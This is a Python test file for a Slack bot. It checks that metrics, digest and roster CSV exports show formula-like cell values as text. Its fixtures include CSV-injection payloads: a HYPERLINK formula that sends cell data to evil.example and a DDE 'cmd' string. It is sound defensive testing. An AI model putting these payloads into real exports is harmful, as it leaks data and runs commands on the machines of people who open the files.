"""Every CSV the product writes opens in a spreadsheet as text: no cell runs as a formula."""

from __future__ import annotations

import csv
import dataclasses
import io
from pathlib import Path

import pytest
from sqlalchemy import Engine, update
from sqlalchemy.orm import Session

from bot import outbox
from bot.config import Settings
from bot.jobs import run_due_jobs
from bot.models import Team
from bot.slack.client import make_web_client
from tests.support.fake_slack import FakeSlack
from tests.test_digest import NOW, K, build_world, library
from tests.test_metrics import Org, _run_cli
from tests.test_roster import run, write

EVIL_TEAM = '=HYPERLINK("http://evil.example/?leak="&A1,"Open")'
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def _quoted(text: str) -> str:
    return '"' + text.replace('"', '""') + '"'


def _cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


def _no_live_formula(rows: list[list[str]]) -> None:
    for row in rows:
        for value in row:
            # A negative number is a number: spreadsheets do not run it.
            if value.startswith("-") and value[1:].replace(".", "", 1).isdigit():
                continue
            assert not value.startswith(FORMULA_STARTS), (value, row)


def test_metrics_csv_shows_a_formula_like_team_name_as_text(
    db_url: str, session: Session, capsys: pytest.CaptureFixture[str]
) -> None:
    org = Org(session)
    org.people(EVIL_TEAM, 2)
    org.people("+cmd|' /C calc'!A0", 1)
    org.people("-Ops", 1)
    org.people("@SUM(1+1)", 1)
    session.commit()
    code, out, err = _run_cli(capsys, "metrics", "--db", db_url, "--week", "2026-W10", "--format", "csv")
    assert code == 0, err
    rows = _cells(out)
    _no_live_formula(rows)
    teams = [row[1] for row in rows[1:]]
    assert "'" + EVIL_TEAM in teams and "'-Ops" in teams and "'@SUM(1+1)" in teams and "*" in teams


def test_the_digest_csv_sent_in_slack_shows_a_formula_like_team_name_as_text(
    engine: Engine, fake_slack: FakeSlack, slack_settings: Settings
) -> None:
    settings = dataclasses.replace(
        slack_settings, min_group_size=K, digest_channel="C0DIGEST", send_rate=50.0
    )
    world = build_world(engine)
    with Session(engine) as session:
        session.execute(update(Team).where(Team.id == world.teams["Tiny"]).values(name=EVIL_TEAM))
        session.commit()
    run_due_jobs(engine, settings, library(), NOW)
    outbox.drain(engine, make_web_client(settings, retry_rate_limits=False), settings)
    csvs = [f for f in fake_slack.files.values() if f.filename.endswith(".csv")]
    assert csvs
    for upload in csvs:
        assert upload.content is not None
        rows = _cells(upload.content.decode())
        _no_live_formula(rows)
    org_csv = next(f for f in csvs if f.channel == "C0DIGEST")
    assert org_csv.content is not None
    assert "'" + EVIL_TEAM in [row[1] for row in _cells(org_csv.content.decode())]


def test_roster_csv_exports_show_formulas_as_text_and_import_back_unchanged(
    db_url: str, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    roster = (
        "slack_user_id,email,name,team,role,leads\n"
        f"U01EVIL01,eve@example.com,=1+2,{_quoted(EVIL_TEAM)},sales,\n"
        "U01PLAIN1,pat@example.com,Pat Plain,-Sales,sales,-Sales\n"
    )
    code, out, err = run(capsys, "roster", "import", str(write(tmp_path, roster)), "--db", db_url)
    assert code == 0, err

    code, exported, _ = run(capsys, "roster", "list", "--format", "csv", "--db", db_url)
    assert code == 0
    rows = _cells(exported)
    _no_live_formula(rows)
    eve = next(row for row in rows if row[0] == "U01EVIL01")
    assert eve[2:4] == ["'=1+2", "'" + EVIL_TEAM]
    pat = next(row for row in rows if row[0] == "U01PLAIN1")
    assert pat[3] == pat[6] == "'-Sales"  # team and leads

    code, teams, _ = run(capsys, "roster", "teams", "--format", "csv", "--db", db_url)
    assert code == 0
    _no_live_formula(_cells(teams))
    assert "'" + EVIL_TEAM in [row[0] for row in _cells(teams)]

    # The export imports back as it was: the quotes added for spreadsheets are not taken as names.
    code, out, _ = run(capsys, "roster", "import", str(write(tmp_path, exported, "back.csv")), "--db", db_url)
    assert code == 0 and "0 added, 0 updated, 0 deactivated, 2 unchanged" in out, out
